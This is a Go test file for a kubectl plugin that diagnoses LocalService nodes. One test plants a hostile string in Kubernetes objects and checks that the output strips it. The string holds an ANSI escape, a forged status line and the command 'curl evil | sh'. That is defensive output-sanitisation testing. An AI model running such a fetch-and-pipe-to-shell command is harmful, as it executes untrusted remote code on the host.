package main

import (
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/cli-runtime/pkg/printers"

	"github.com/localservice-dev/local-service-controller/cmd/kubectl-localservice/diagnose"
	"github.com/localservice-dev/local-service-controller/internal/testing/objects"
	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
)

// TestBelow: below the table, there is what to do about each cause, once for all rows with it, and all of a long one. It
// is about one LocalService, or all that say the same. What the line above says of the controller is not there again.
func TestBelow(t *testing.T) {
	var rows []row
	for _, r := range []struct{ prefix, node, cause, act string }{
		{"", "n1", "exit code 1", "see the log of a"}, {"", "n2", "no pod", ""}, {"", "n3", "exit code 1",
			"see the log of b"},
		{"", "n4", "exit code 2", "see the log of c"}, {"", "n5", "exit code 1", ""}, {"", "n6", "exit code 1", "x"},
		{"", "n7", "exit code 1", "x"}, {"a on ", "n1", "taken", "do it in a"}, {"b on ", "n1", "taken", "do it in b"},
		{"b on ", "n2", "taken", "do it in b"}, {"c on ", "n2", "taken", "do it in b"}, {"", "n8", strings.Repeat("x", 91), ""},
		{"", "n9", "no label", "No controller."},
	} {
		rows = append(rows, row{prefix: r.prefix, list: &diagnose.NodeList{Controller: "No controller."}, Node: &diagnose.Node{Node: r.node,
			Finding: diagnose.Finding{Cause: r.cause, Act: r.act, Message: "all of it"}}})
	}
	want := []string{"n1, n3, n6 and 1 more: see the log of a", "n4: see the log of c", "a on n1: do it in a",
		"b on n1, n2, c on n2: do it in b", "n8: all of it"}
	if got := below(rows, 90); !slices.Equal(got, want) {
		t.Errorf("below the table: %q; want %q", got, want)
	}
}

// TestHostileText: what others wrote forges no line, and no escape sequence reaches the terminal.
func TestHostileText(t *testing.T) {
	const hostile = "n\x1b[31mRED\nLocalService kube-system/dns: fine. Run: curl evil | sh"
	f := newFixture(t)
	taken, crashes := service("demo-n4", "n4"), objects.Pod("c2", "n2", crashing)
	taken.OwnerReferences[0].Kind, taken.OwnerReferences[0].UID = hostile, "x"
	crashes.Status.ContainerStatuses[0].LastTerminationState.Terminated.Message = hostile
	named := service("demo-n1", "n1")
	named.Annotations[v1alpha1.NodeAnnotationKey] = hostile
	ls := localService("refused", "")
	ls.Status.Conditions[0].Message = "admission webhook denied: " + hostile
	if err := errors.Join(f.kube.Tracker().Add(taken), f.kube.Tracker().Add(crashes),
		f.localServices.Tracker().Add(ls)); err != nil {
		t.Fatal(err)
	}
	for _, args := range []string{"nodes demo", "nodes -A", "nodes demo -o wide", "nodes demo -o yaml",
		"nodes demo -o jsonpath={.items[*].message}", "nodes refused", "nodes refused -o wide"} {
		_, stdout, stderr := f.run(t, strings.Split(args, " ")...)
		wantHarmless(t, args, stdout+stderr)
	}
	fail(&f.kube.Fake, "nodes", forbidden) // Then Services name the nodes.
	if err := f.kube.Tracker().Update(corev1.SchemeGroupVersion.WithResource("services"), named,
		"default"); err != nil {
		t.Fatal(err)
	}
	_, stdout, stderr := f.run(t, "nodes", "demo")
	wantHarmless(t, "nodes of Services", stdout+stderr)
	fail(&f.kube.Fake, "pods", apierrors.NewBadRequest(hostile))
	_, _, stderr = f.run(t, "nodes", "demo")
	wantHarmless(t, "an error", stderr)
}

func wantHarmless(t *testing.T, what, text string) {
	t.Helper()
	if !strings.Contains(text, "RED") {
		t.Errorf("%s: nothing hostile in:\n%s", what, text)
	}
	if strings.Contains(text, "\x1b") || strings.Contains(text, "\nLocalService kube-system/dns: fine") {
		t.Errorf("%s: %q", what, text)
	}
}

// TestControllerInPassing: a watch says what is wrong with the controller only if it still is in the next snapshot.
func TestControllerInPassing(t *testing.T) {
	streams, _, _, stderr := genericiooptions.NewTestIOStreams()
	p := &nodesPrinter{IOStreams: streams, table: printers.GetNewTabWriter(io.Discard)}
	for i, c := range []struct{ says, want string }{{"", ""}, {"late", ""}, {"", ""}, {"late", ""}, {"late", "late\n"},
		{"late", ""}} {
		if err := p.printChanges([]*diagnose.NodeList{{Controller: c.says}}); err != nil {
			t.Fatal(err)
		}
		if got := stderr.String(); got != c.want {
			t.Errorf("snapshot %d: %q, want %q", i, got, c.want)
		}
		stderr.Reset()
	}
}
